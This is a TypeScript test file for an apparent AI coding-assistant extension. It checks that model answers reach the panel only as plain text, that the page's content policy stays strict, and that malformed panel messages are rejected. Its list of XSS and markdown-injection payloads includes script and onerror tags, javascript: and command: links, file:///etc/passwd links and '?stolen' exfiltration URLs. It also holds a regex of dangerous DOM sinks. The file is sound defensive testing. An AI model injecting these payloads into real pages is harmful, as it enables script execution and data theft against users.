import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { withoutImages } from '../../../src/host/agents/withoutImages.ts';
import { contentPolicy } from '../../../src/host/panel/contentPolicy.ts';
import { pageMessage } from '../../../src/protocol/panel.ts';
import { hostMessage } from '../../../src/protocol/stateDelta.ts';
import { type Piece, readAnswer } from '../../../src/webview/model/answerText.ts';

/** Answers that would be more than text to a page that took them for it. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://example.org/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.org/?stolen">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<iframe src="https://example.org"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://example.org"></object>',
  '<embed src="https://example.org">',
  '<link rel="stylesheet" href="https://example.org/x.css">',
  '<style>*{background:url(https://example.org/?stolen)}</style>',
  '<style>@import "https://example.org/x.css";</style>',
  '<div style="background:url(https://example.org)">x</div>',
  '<meta http-equiv="refresh" content="0;url=https://example.org">',
  '<base href="https://example.org/">',
  '<form action="https://example.org"><input name=key><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="command:workbench.action.terminal.new">x</a>',
  '<template><script>alert(1)</script></template>',
  '<portal src="https://example.org"></portal>',
  '<!--><script>alert(1)</script>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](command:tiercel.acceptAll)',
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)',
  '[x](vscode://publisher.extension/path)',
  '[x](vscode-insiders://x)',
  '[x](file:///etc/passwd)',
  '[x](https://example.org/?stolen)',
  '![x](https://example.org/?stolen)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][ref]\n\n[ref]: https://example.org/?stolen',
  '[![x](https://example.org/?stolen)](command:x)',
  '<https://example.org>',
  '<javascript:alert(1)>',
  'https://example.org/?stolen',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '"><img src=x onerror=alert(1)>',
  "javascript:/*--></title></style></textarea></script><svg onload='/*'/*\\'/*\"/*</script>*/alert(1)//'>",
  '`<img src=x onerror=alert(1)>`',
  '`[x](command:x)`',
  '```html\n<script>alert(1)</script>\n```',
  '```\n</pre><script>alert(1)</script>\n```',
  '~~~\n<script>\n~~~',
  '\u202e<script>\u202c',
];

describe('an answer of a model in the panel', () => {
  for (const attack of attacks)
    it(`is text: ${JSON.stringify(attack)}`, () => {
      const pieces = readAnswer(attack).flatMap((block): readonly Piece[] =>
        block.type === 'code' ? [{ type: 'code', text: block.text }] : block.pieces,
      );
      // No link, no picture, nothing but text, code, and places that the host looks for in the workspace.
      for (const piece of pieces) {
        assert.ok(['text', 'code', 'place'].includes(piece.type));
        if (piece.type === 'place') assert.doesNotMatch(piece.path, /^[/\\]|:|\.\.\//);
      }
      const shown = pieces.map(({ text }) => text).join('');
      const written = attack.replace(/^```.*$/gm, '').replaceAll('`', '');
      assert.equal(shown.replace(/\s/g, ''), written.replace(/\s/g, ''));
    });

  it('goes nowhere on the page where it would be more', () => {
    const folder = path.resolve('src/webview');
    const sources = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) =>
      /\.tsx?$/.test(file),
    );
    assert.ok(sources.length > 20);
    const dangerous =
      /dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write|srcdoc|\beval\b|new Function|DOMParser|createContextualFragment|unsafeHTML|href=|fetch\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts/;
    const found = sources.flatMap((file) =>
      readFileSync(path.join(folder, file), 'utf8')
        .split('\n')
        .filter((line) => dangerous.test(line))
        .map((line) => `${file}: ${line.trim()}`),
    );
    assert.deepEqual(found, []);
  });
});

describe('an answer of a model in the chat', () => {
  for (const attack of attacks.filter((each) => each.includes('![')))
    it(`shows no picture: ${JSON.stringify(attack)}`, () =>
      assert.doesNotMatch(withoutImages(attack), /(?<!\\)!\[|(?<=\\\\)!\[/));
  const check = (markdown: string, expected: string) =>
    it(JSON.stringify(markdown), () => assert.equal(withoutImages(markdown), expected));
  check('```rust\n#![allow(x)]\n```\n![x](u)', '```rust\n#![allow(x)]\n```\n!\\[x](u)');
  check('``` ` ```\n![x](u)', '``` ` ```\n!\\[x](u)');
  check('    ```\n![x](u)', '    ```\n!\\[x](u)');
  check('~~~\n```\n![x](u)\n~~~\n![x](u)', '~~~\n```\n![x](u)\n~~~\n!\\[x](u)');
  check('\\`![x](u)`', '\\`!\\[x](u)`');
  check('a\r![x](u)', 'a\n!\\[x](u)');
});

describe('the panel’s page', () => {
  it('loads our own script and style, pictures that the user has put in, and nothing else', () => {
    assert.equal(
      contentPolicy('N', 'https://*.vscode-cdn.net'),
      "default-src 'none'; script-src 'nonce-N'; style-src https://*.vscode-cdn.net; font-src https://*.vscode-cdn.net; img-src data:; base-uri 'none'; form-action 'none'",
    );
  });
});

describe('a message that crosses to the panel or back', () => {
  const refused = (message: unknown) =>
    it(`is not taken: ${JSON.stringify(message)}`, () => {
      assert.equal(pageMessage.safeParse(message).success, false);
      assert.equal(hostMessage.safeParse(message).success, false);
    });
  refused(undefined);
  refused(null);
  refused('ready');
  refused([]);
  refused({});
  refused({ type: 'eval', text: 'x' });
  refused({ type: 'executeCommand', command: 'workbench.action.quit' });
  refused({ type: '__proto__' });
  refused({ type: 'submit' });
  refused({ type: 'submit', text: 1 });
  refused({ type: 'submit', text: { toString: 'x' } });
  refused({ type: 'accept', proposal: 'p', path: 'a', hunks: ['0'] });
  refused({ type: 'accept', proposal: 'p', path: ['a'], hunks: [0] });
  refused({ type: 'openFile', path: 'a' });
  refused({ type: 'openFile', path: 1, line: 1 });
  refused({ type: 'openFile', path: 'a', line: 'x' });
  refused({ type: 'setTaskTier', run: 'r', task: 't', tier: 'root' });
  refused({ type: 'cancel' });
  refused({ type: 'state' });
  refused({ type: 'state', state: null });
  refused({ type: 'cost', cost: {} });
});
